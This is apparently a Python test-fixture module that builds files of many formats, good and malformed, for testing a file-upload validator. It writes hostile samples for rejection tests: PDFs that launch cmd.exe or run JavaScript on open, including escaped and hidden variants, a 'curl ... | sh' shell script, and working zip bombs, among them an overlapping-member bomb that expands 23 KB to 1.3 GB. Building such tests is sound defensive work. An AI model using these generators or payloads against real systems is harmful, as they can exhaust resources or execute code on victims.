"""Evidence files generated at test time: good files of every accepted format, and bad ones.

Nothing here is a fixture file checked into the repository: every function builds its bytes
from scratch, so the corpus documents how each format is laid out. Writers that no installed
library offers are written by hand from the format specifications:

- `cfb`: a Compound File Binary (OLE2) writer, version 3 (512-byte sectors, a mini stream for
  streams under 4096 bytes, directory siblings as a balanced red-black tree), used for .doc and
  .msg. olefile reads the result back.
- `rar5`: a RAR 5.0 writer for stored (uncompressed) members, with optional file encryption
  records, header encryption, multi-volume flags and symlink records (the encrypted data is
  random bytes: readers must refuse it before decrypting anything).
- `raw_zip`: a zip writer that puts given bytes in the headers (for bombs, encrypted members,
  symlinks and names that `zipfile` would not write).
- `overlap_bomb`: a non-recursive zip bomb (overlapping members that all share one deflate
  kernel of zeros, after David Fifield's construction): 23 KB that unpack to 1.3 GB.
"""

from __future__ import annotations

import email.message
import email.utils
import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, field

from PIL import Image

# --------------------------------------------------------------------------- images


def _noise_image(width: int, height: int, seed: int) -> Image.Image:
    """A picture with enough detail that it does not compress away (random blocks of colour)."""
    rnd = random.Random(seed)
    small = Image.frombytes(
        "RGB", (width // 4, height // 4), rnd.randbytes(width * height // 16 * 3)
    )
    return small.resize((width, height), Image.Resampling.NEAREST)


def jpg(width: int = 64, height: int = 48, seed: int = 1, quality: int = 90) -> bytes:
    out = io.BytesIO()
    _noise_image(width, height, seed).save(out, "JPEG", quality=quality)
    return out.getvalue()


def noisy_jpg(size: int, seed: int = 1) -> bytes:
    """A JPEG of about `size` bytes of incompressible pixel noise."""
    rnd = random.Random(seed)
    side = 16
    while True:
        pixels = rnd.randbytes(side * side * 3)
        out = io.BytesIO()
        Image.frombytes("RGB", (side, side), pixels).save(out, "JPEG", quality=95)
        if out.tell() >= size * 0.9:
            return out.getvalue()
        side = int(side * 1.25) + 1


def png(width: int = 40, height: int = 30, seed: int = 2) -> bytes:
    out = io.BytesIO()
    _noise_image(width, height, seed).save(out, "PNG")
    return out.getvalue()


def gif(width: int = 40, height: int = 30, seed: int = 3) -> bytes:
    out = io.BytesIO()
    _noise_image(width, height, seed).convert("P").save(out, "GIF")
    return out.getvalue()


def webp(width: int = 40, height: int = 30, seed: int = 4) -> bytes:
    out = io.BytesIO()
    _noise_image(width, height, seed).save(out, "WEBP", quality=80)
    return out.getvalue()


# --------------------------------------------------------------------------- office (zip)


def docx(text: str = "The seller did not ship order 1234.") -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_heading("Complaint", level=1)
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["order", "amount", "paid"])
    sheet.append([1234, 99.5, "2024-05-01"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xls() -> bytes:
    import xlwt

    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("Orders")
    for col, value in enumerate(["order", "amount", "paid"]):
        sheet.write(0, col, value)
    sheet.write(1, 0, 1234)
    sheet.write(1, 1, 99.5)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# --------------------------------------------------------------------------- CFB / OLE2

_SECTOR = 512
_MINI_SECTOR = 64
_MINI_CUTOFF = 4096
_FREESECT = 0xFFFFFFFF
_ENDOFCHAIN = 0xFFFFFFFE
_FATSECT = 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF
_RED, _BLACK = 0, 1


@dataclass(eq=False)
class _Entry:
    name: str
    data: bytes | None  # None: a storage
    children: dict[str, _Entry] = field(default_factory=dict)
    clsid: bytes = bytes(16)
    sid: int = 0
    left: int = _NOSTREAM
    right: int = _NOSTREAM
    child: int = _NOSTREAM
    color: int = _BLACK
    start: int = _ENDOFCHAIN


def _cfb_key(entry: _Entry) -> tuple[int, str]:
    """CFB orders siblings by name length first, then by upper-cased name."""
    return (len(entry.name), entry.name.upper())


def _link_siblings(entries: list[_Entry], depth: int, deepest: int, complete: bool) -> int:
    """Links a sorted list as a balanced tree; returns the id of its root.

    Median splitting fills every level but the last, so colouring the last level red (when it
    is not full) and the rest black gives a valid red-black tree.
    """
    if not entries:
        return _NOSTREAM
    middle = len(entries) // 2
    node = entries[middle]
    node.color = _RED if depth == deepest and not complete and depth > 0 else _BLACK
    node.left = _link_siblings(entries[:middle], depth + 1, deepest, complete)
    node.right = _link_siblings(entries[middle + 1 :], depth + 1, deepest, complete)
    return node.sid


def cfb(streams: dict[str, bytes], root_clsid: bytes = bytes(16)) -> bytes:
    """A Compound File (version 3) holding `streams`, keyed by paths like "storage/stream"."""
    root = _Entry("Root Entry", None, clsid=root_clsid)
    for path, data in streams.items():
        node = root
        *storages, leaf = path.split("/")
        for name in storages:
            node = node.children.setdefault(name, _Entry(name, None))
        node.children[leaf] = _Entry(leaf, data)

    ordered: list[_Entry] = []
    pending = [root]
    while pending:
        node = pending.pop(0)
        node.sid = len(ordered)
        ordered.append(node)
        pending.extend(sorted(node.children.values(), key=_cfb_key))
    for node in ordered:
        kids = sorted(node.children.values(), key=_cfb_key)
        deepest = max(len(kids).bit_length() - 1, 0)
        complete = len(kids) == (1 << (deepest + 1)) - 1
        node.child = _link_siblings(kids, 0, deepest, complete)

    mini = bytearray()
    minifat: list[int] = []
    big: list[_Entry] = []
    for node in ordered:
        if node.data is None or not node.data:
            continue
        if len(node.data) < _MINI_CUTOFF:
            node.start = len(minifat)
            count = -(-len(node.data) // _MINI_SECTOR)
            minifat.extend(range(node.start + 1, node.start + count))
            minifat.append(_ENDOFCHAIN)
            mini += node.data.ljust(count * _MINI_SECTOR, b"\0")
        else:
            big.append(node)

    per_sector = _SECTOR // 4
    n_dir = -(-len(ordered) // 4)
    n_minifat = -(-len(minifat) // per_sector)
    n_mini = -(-len(mini) // _SECTOR)
    n_big = sum(-(-len(node.data or b"") // _SECTOR) for node in big)
    n_fat = 1
    while n_fat * per_sector < n_fat + n_dir + n_minifat + n_mini + n_big:
        n_fat += 1
    if n_fat > 109:
        raise ValueError("this small writer keeps the FAT in the header's DIFAT (<= 7 MB)")

    fat = [_FATSECT] * n_fat
    body = bytearray()

    def place(data: bytes) -> int:
        count = -(-len(data) // _SECTOR)
        start = len(fat)
        fat.extend(range(start + 1, start + count))
        fat.append(_ENDOFCHAIN)
        body.extend(data.ljust(count * _SECTOR, b"\0"))
        return start

    dir_start = len(fat)
    fat.extend(range(dir_start + 1, dir_start + n_dir))
    fat.append(_ENDOFCHAIN)
    body.extend(bytes(n_dir * _SECTOR))  # filled below, once every start sector is known
    minifat_start = _ENDOFCHAIN
    if minifat:
        table = b"".join(struct.pack("<I", v) for v in minifat)
        minifat_start = place(table.ljust(n_minifat * _SECTOR, b"\xff"))
    if mini:
        root.start = place(bytes(mini))
    for node in big:
        node.start = place(node.data or b"")
    fat.extend([_FREESECT] * (n_fat * per_sector - len(fat)))

    directory = bytearray()
    for node in ordered:
        encoded = node.name.encode("utf-16-le") + b"\0\0"
        if len(encoded) > 64:
            raise ValueError(f"CFB names are at most 31 characters: {node.name!r}")
        if node is root:
            kind, size = 5, len(mini)
        elif node.data is None:
            kind, size = 1, 0
        else:
            kind, size = 2, len(node.data)
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded,
            len(encoded),
            kind,
            node.color,
            node.left,
            node.right,
            node.child,
            node.clsid,
            0,
            0,
            0,
            node.start if size or node is root else _ENDOFCHAIN,
            size,
        )
    unused = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, *(3 * [_NOSTREAM]), bytes(16), 0, 0, 0, 0, 0
    )
    directory += unused * (n_dir * 4 - len(ordered))
    body[0 : len(directory)] = directory

    difat = [*range(n_fat), *([_FREESECT] * (109 - n_fat))]
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        bytes(16),
        0x003E,
        0x0003,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        n_fat,
        dir_start,
        0,
        _MINI_CUTOFF,
        minifat_start,
        n_minifat,
        _ENDOFCHAIN,
        0,
    ) + struct.pack("<109I", *difat)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    return header + fat_bytes + bytes(body)


def doc(text: str = "The seller did not ship order 1234.") -> bytes:
    """A Word 97-2003 document: a CFB with a WordDocument stream starting with a FIB."""
    words = text.encode("cp1252")
    fib_base = struct.pack(
        "<HHHHHHHIBBHHII",
        0xA5EC,  # wIdent
        0x00C1,  # nFib (Word 97)
        0,
        0x0409,  # lid: English (US)
        0,  # pnNext
        0x1200,  # fExtChar | fWhichTblStm (the table stream is "1Table")
        0x00BF,  # nFibBack
        0,  # lKey
        0,  # envr
        0,
        0,
        0,
        0,
        0,
    )
    fib = fib_base.ljust(0x400, b"\0")
    word_document = (fib + b"\0" * (0x800 - len(fib)) + words).ljust(4608, b"\0")
    return cfb(
        {
            "WordDocument": word_document,
            "1Table": bytes(512),
            "\x05SummaryInformation": bytes(48),
        }
    )


_OUTLOOK_CLSID = bytes.fromhex("0b0d020000000000c000000000000046")


def _unicode_property(value: str) -> bytes:
    return value.encode("utf-16-le")


def msg(subject: str = "Order 1234 not shipped", body: str = "Hello, where is my order?") -> bytes:
    """An Outlook message: a CFB of MAPI property streams (MS-OXMSG)."""
    properties = [
        (0x001A001F, "IPM.Note"),
        (0x0037001F, subject),
        (0x0C1A001F, "Ann Buyer"),
        (0x0C1F001F, "ann@example.com"),
        (0x1000001F, body),
    ]
    streams = {f"__substg1.0_{tag:08X}": _unicode_property(v) for tag, v in properties}
    table = bytearray(bytes(8) + struct.pack("<IIII", 1, 0, 1, 0) + bytes(8))
    for tag, value in properties:
        table += struct.pack("<III4s", tag, 0x6, len(_unicode_property(value)) + 2, bytes(4))
    streams["__properties_version1.0"] = bytes(table)
    streams["__nameid_version1.0/__substg1.0_00020102"] = b""
    streams["__nameid_version1.0/__substg1.0_00030102"] = b""
    streams["__nameid_version1.0/__substg1.0_00040102"] = b""
    recipient = "__recip_version1.0_#00000000"
    streams[f"{recipient}/__substg1.0_3001001F"] = _unicode_property("Shop Owner")
    streams[f"{recipient}/__substg1.0_3003001F"] = _unicode_property("shop@example.com")
    streams[f"{recipient}/__properties_version1.0"] = bytes(8)
    return cfb(streams, root_clsid=_OUTLOOK_CLSID)


def msg_with_attachment(filename: str, data: bytes) -> bytes:
    """An Outlook message carrying one attachment (a storage with name and data streams)."""
    plain = msg()
    import olefile

    ole = olefile.OleFileIO(plain)
    streams = {"/".join(path): ole.openstream(path).read() for path in ole.listdir()}
    ole.close()
    attachment = "__attach_version1.0_#00000000"
    streams[f"{attachment}/__substg1.0_3707001F"] = _unicode_property(filename)
    streams[f"{attachment}/__substg1.0_37010102"] = data
    streams[f"{attachment}/__properties_version1.0"] = bytes(8)
    return cfb(streams, root_clsid=_OUTLOOK_CLSID)


# --------------------------------------------------------------------------- PDF


def pdf(
    text: str = "Receipt 1234",
    *,
    extra_catalog: bytes = b"",
    payload: bytes = b"",
    extra_objects: Iterable[bytes] = (),
) -> bytes:
    """A small valid PDF with a correct cross-reference table.

    `payload` adds a gray image XObject holding those bytes (incompressible content for size
    tests); `extra_catalog` goes into the catalog dictionary (e.g. an /OpenAction);
    `extra_objects` are appended as objects 7, 8, ...
    """
    content = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    resources = b"/Font << /F1 5 0 R >>"
    if payload:
        resources += b" /XObject << /Im1 6 0 R >>"
        content += b" q 100 0 0 100 72 500 cm /Im1 Do Q"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << "
        + resources
        + b" >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if payload:
        objects.append(
            b"<< /Type /XObject /Subtype /Image /Width %d /Height 1 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Length %d >>\nstream\n"
            % (len(payload), len(payload))
            + payload
            + b"\nendstream"
        )
    else:
        objects.append(b"null")
    objects.extend(extra_objects)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_with_javascript() -> bytes:
    return pdf(extra_catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> ")


def pdf_with_escaped_javascript() -> bytes:
    """/JavaScript spelled with #xx escapes, as PDF names allow: /J#61v#61Script."""
    return pdf(extra_catalog=b"/OpenAction << /S /J#61v#61Script /J#53 (app.alert(1)) >> ")


def pdf_with_launch() -> bytes:
    return pdf(extra_catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_with_javascript_in_object_stream() -> bytes:
    """The action dictionary hides in a compressed object stream (PDF 1.5)."""
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"8 0 "
    packed = zlib.compress(header + inner)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    return pdf(extra_catalog=b"/OpenAction 8 0 R ", extra_objects=[objstm])


def pdf_with_random_payload(size: int, seed: int = 5) -> bytes:
    return pdf(payload=random.Random(seed).randbytes(size))


# --------------------------------------------------------------------------- email, text


def eml(subject: str = "Order 1234 not shipped") -> bytes:
    message = email.message.EmailMessage()
    message["From"] = "Ann Buyer <ann@example.com>"
    message["To"] = "shop@example.com"
    message["Subject"] = subject
    message["Date"] = email.utils.format_datetime(email.utils.localtime())
    message["Message-ID"] = email.utils.make_msgid(domain="example.com")
    message.set_content("Hello,\n\nI paid on 1 May and nothing arrived.\n\nAnn\n")
    return message.as_bytes()


def eml_mime_version_first() -> bytes:
    """libmagic calls this text/plain: only parsing the headers shows it is an email."""
    return (
        b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"From: ann@example.com\r\nTo: shop@example.com\r\nSubject: Where is my order\r\n"
        b"Date: Wed, 01 May 2024 10:00:00 +0000\r\n\r\nNothing arrived.\r\n"
    )


def eml_with_attachment(filename: str, data: bytes) -> bytes:
    message = email.message.EmailMessage()
    message["From"] = "scammer@example.net"
    message["To"] = "ann@example.com"
    message["Subject"] = "Your invoice"
    message.set_content("See the attachment.")
    message.add_attachment(data, maintype="application", subtype="octet-stream", filename=filename)
    return message.as_bytes()


def txt() -> bytes:
    return b"The seller promised delivery in 5 days. Nothing arrived after 30 days.\n"


# --------------------------------------------------------------------------- programs


def elf() -> bytes:
    """A minimal 64-bit Linux executable header (ELF header + one program header)."""
    header = struct.pack(
        "<4sBBBBB7sHHIQQQIHHHHHH",
        b"\x7fELF",
        2,  # 64-bit
        1,  # little-endian
        1,  # version
        0,
        0,
        bytes(7),
        2,  # ET_EXEC
        0x3E,  # x86-64
        1,
        0x400078,
        64,
        0,
        0,
        64,
        56,
        1,
        0,
        0,
        0,
    )
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 200, 200, 0x1000)
    return header + program + b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05".ljust(72, b"\x90")


def pe() -> bytes:
    """A minimal Windows executable header: DOS stub whose e_lfanew points at a PE header."""
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    dos += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\0")
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<HBB", 0x10B, 14, 0).ljust(0xE0, b"\0")
    section = struct.pack(
        "<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020
    )
    return bytes(dos + coff + optional + section).ljust(1024, b"\0")


def html() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><script>alert(1)</script></head><body>Hi</body></html>\n"


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.com/x | sh\n"


# --------------------------------------------------------------------------- zip


def zip_of(files: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


@dataclass
class RawMember:
    name: bytes
    data: bytes  # as stored (compressed and/or encrypted)
    size: int  # uncompressed size
    crc: int
    method: int = zipfile.ZIP_STORED
    flags: int = 0
    external_attr: int = 0o100644 << 16


def raw_zip(members: Iterable[RawMember]) -> bytes:
    """A zip file written byte by byte, trusting the caller's header values."""
    out = bytearray()
    central = bytearray()
    count = 0
    for member in members:
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            member.flags,
            member.method,
            0,
            0x5821,
            member.crc,
            len(member.data),
            member.size,
            len(member.name),
            0,
        )
        out += member.name + member.data
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            0x0314,
            20,
            member.flags,
            member.method,
            0,
            0x5821,
            member.crc,
            len(member.data),
            member.size,
            len(member.name),
            0,
            0,
            0,
            0,
            member.external_attr,
            offset,
        )
        central += member.name
        count += 1
    directory = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), directory, 0)
    return bytes(out)


def stored(name: str, data: bytes, **kwargs: int) -> RawMember:
    return RawMember(name.encode(), data, len(data), zlib.crc32(data), **kwargs)


def _zipcrypto_keys_update(keys: list[int], byte: int) -> None:
    keys[0] = _crc32_byte(keys[0], byte)
    keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
    keys[2] = _crc32_byte(keys[2], keys[1] >> 24)


def _crc32_byte(crc: int, byte: int) -> int:
    crc ^= byte
    for _ in range(8):
        crc = (crc >> 1) ^ (0xEDB88320 if crc & 1 else 0)
    return crc


def zipcrypto(data: bytes, password: bytes, crc: int) -> bytes:
    """Traditional PKWARE encryption: a 12-byte header, then each byte XORed with a keystream."""
    keys = [0x12345678, 0x23456789, 0x34567890]
    for byte in password:
        _zipcrypto_keys_update(keys, byte)
    header = random.Random(7).randbytes(11) + bytes([crc >> 24])
    out = bytearray()
    for byte in header + data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        _zipcrypto_keys_update(keys, byte)
    return bytes(out)


def encrypted_zip(password: bytes = b"secret") -> bytes:
    data = pdf()
    crc = zlib.crc32(data)
    cipher = zipcrypto(data, password, crc)
    return raw_zip([RawMember(b"receipt.pdf", cipher, len(data), crc, flags=0x1)])


def deflate_bomb(zeros: int = 48 * 1024 * 1024) -> bytes:
    """One member of zeros: deflate's best ratio is about 1000:1, so 48 MB become ~47 KB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    packed = bytearray()
    crc = 0
    for _ in range(zeros // len(chunk)):
        packed += compressor.compress(chunk)
        crc = zlib.crc32(chunk, crc)
    packed += compressor.flush()
    return raw_zip(
        [RawMember(b"zeros.txt", bytes(packed), zeros, crc, method=zipfile.ZIP_DEFLATED)]
    )


def _gf2_times(matrix: list[int], vector: int) -> int:
    total = 0
    row = 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _zero_operators() -> list[list[int]]:
    """operators[k] advances a CRC-32 register over 2**k zero bytes (GF(2) matrices)."""
    one_bit = [0xEDB88320] + [1 << n for n in range(31)]
    operator = one_bit
    for _ in range(3):  # 8 bits = one zero byte
        operator = [_gf2_times(operator, operator[n]) for n in range(32)]
    operators = [operator]
    for _ in range(40):
        operator = [_gf2_times(operator, operator[n]) for n in range(32)]
        operators.append(operator)
    return operators


def crc32_combine(crc1: int, crc2: int, length2: int, _ops: list[list[int]] = []) -> int:  # noqa: B006
    """CRC-32 of A + B from crc(A), crc(B) and len(B), as zlib's crc32_combine."""
    if not _ops:
        _ops.extend(_zero_operators())
    bit = 0
    while length2:
        if length2 & 1:
            crc1 = _gf2_times(_ops[bit], crc1)
        length2 >>= 1
        bit += 1
    return crc1 ^ crc2


def overlap_bomb(files: int = 160, kernel_zeros: int = 8 * 1024 * 1024) -> bytes:
    """A non-recursive zip bomb: every member's deflate stream ends in one shared kernel.

    Member i's data is a stored deflate block that quotes member i+1's local header, followed
    by member i+1's data, down to the kernel (deflated zeros). So each of `files` members
    unpacks to about `kernel_zeros` bytes while the kernel is stored once: with the defaults,
    23 KB unpack to 1.3 GB. CRCs are exact (computed backwards with crc32_combine), so
    `zipfile` reads every member without error.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    kernel = bytearray()
    kernel_crc = 0
    for _ in range(kernel_zeros // len(chunk)):
        kernel += compressor.compress(chunk)
        kernel_crc = zlib.crc32(chunk, kernel_crc)
    kernel += compressor.flush()

    names = [f"{i:03d}.txt".encode() for i in range(files)]
    headers: list[bytes] = [b""] * files
    crcs = [0] * files
    sizes = [0] * files
    packed = [0] * files
    crcs[-1], sizes[-1], packed[-1] = kernel_crc, kernel_zeros, len(kernel)
    for i in range(files - 1, -1, -1):
        if i < files - 1:
            quoted = headers[i + 1]
            crcs[i] = crc32_combine(zlib.crc32(quoted), crcs[i + 1], sizes[i + 1])
            sizes[i] = len(quoted) + sizes[i + 1]
            packed[i] = 5 + len(quoted) + packed[i + 1]
        headers[i] = struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0x5821,
            crcs[i],
            packed[i],
            sizes[i],
            len(names[i]),
            0,
        )
        headers[i] += names[i]

    out = bytearray()
    offsets = []
    for i in range(files):
        offsets.append(len(out))
        out += headers[i]
        if i < files - 1:
            length = len(headers[i + 1])
            out += struct.pack("<BHH", 0, length, length ^ 0xFFFF)  # a stored, non-final block
    out += kernel
    central = bytearray()
    for i in range(files):
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            0x0314,
            20,
            0,
            8,
            0,
            0x5821,
            crcs[i],
            packed[i],
            sizes[i],
            len(names[i]),
            0,
            0,
            0,
            0,
            0o100644 << 16,
            offsets[i],
        )
        central += names[i]
    directory = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, files, files, len(central), directory, 0)
    return bytes(out)


# --------------------------------------------------------------------------- RAR 5.0

RAR5_SIGNATURE = b"Rar!\x1a\x07\x01\x00"


def _vint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _rar5_block(
    kind: int, fields: bytes, *, extra: bytes = b"", data: bytes | None = None, flags: int = 0
) -> bytes:
    """One RAR5 header: CRC32, size, type, flags, [extra size], [data size], fields, extra."""
    if extra:
        flags |= 0x0001
    if data is not None:
        flags |= 0x0002
    body = _vint(kind) + _vint(flags)
    if extra:
        body += _vint(len(extra))
    if data is not None:
        body += _vint(len(data))
    body += fields + extra
    header = _vint(len(body)) + body
    return struct.pack("<I", zlib.crc32(header)) + header + (data or b"")


@dataclass
class RarMember:
    name: str
    data: bytes = b""
    directory: bool = False
    encrypted: bool = False
    symlink_to: str | None = None
    split_after: bool = False


def rar5(
    members: Iterable[RarMember],
    *,
    header_encrypted: bool = False,
    volume: bool = False,
) -> bytes:
    """A RAR 5.0 archive of stored members, written from the format specification."""
    out = bytearray(RAR5_SIGNATURE)
    rnd = random.Random(11)
    if header_encrypted:
        # Archive encryption header: AES-256, password check present, KDF count, salt, check.
        fields = _vint(0) + _vint(1) + bytes([15]) + rnd.randbytes(16) + rnd.randbytes(12)
        out += _rar5_block(4, fields)
        out += rnd.randbytes(16 + 48)  # the (encrypted) main header: IV + ciphertext
        return bytes(out)
    out += _rar5_block(1, _vint(0x0001 if volume else 0))
    for member in members:
        data = member.data
        file_flags = 0x0004  # a data CRC32 follows
        extra = b""
        if member.directory:
            file_flags |= 0x0001
            data = b""
        if member.encrypted:
            # File encryption record: version 0 (AES-256), flags (password check), KDF count,
            # salt, IV, check value. The data is what AES would produce: opaque bytes.
            record = _vint(0x01) + _vint(0) + _vint(0x0001) + bytes([15])
            record += rnd.randbytes(16) + rnd.randbytes(16) + rnd.randbytes(12)
            extra += _vint(len(record)) + record
            data = rnd.randbytes(-(-len(member.data) // 16) * 16 or 16)
        if member.symlink_to is not None:
            target = member.symlink_to.encode()
            record = _vint(0x05) + _vint(1) + _vint(0) + _vint(len(target)) + target
            extra += _vint(len(record)) + record
        name = member.name.encode()
        unix_mode = 0o40755 if member.directory else 0o120777 if member.symlink_to else 0o100644
        fields = (
            _vint(file_flags)
            + _vint(len(member.data))
            + _vint(unix_mode)
            + struct.pack("<I", zlib.crc32(member.data))
            + _vint(0)  # compression: version 0, method 0 (store)
            + _vint(1)  # host OS: Unix
            + _vint(len(name))
            + name
        )
        out += _rar5_block(
            2, fields, extra=extra, data=data, flags=0x0010 if member.split_after else 0
        )
    out += _rar5_block(5, _vint(0x0001 if volume else 0))
    return bytes(out)


def rar_of(files: dict[str, bytes]) -> bytes:
    return rar5(RarMember(name, data) for name, data in files.items())


# --------------------------------------------------------------------------- misc


def random_bytes(size: int, seed: int = 9) -> bytes:
    return random.Random(seed).randbytes(size)


def write_all(directory: os.PathLike[str] | str, files: dict[str, bytes]) -> list[str]:
    """Writes files into a directory (for tests that want real files on disk)."""
    paths = []
    for name, data in files.items():
        path = os.path.join(directory, name)
        with open(path, "wb") as handle:
            handle.write(data)
        paths.append(path)
    return paths
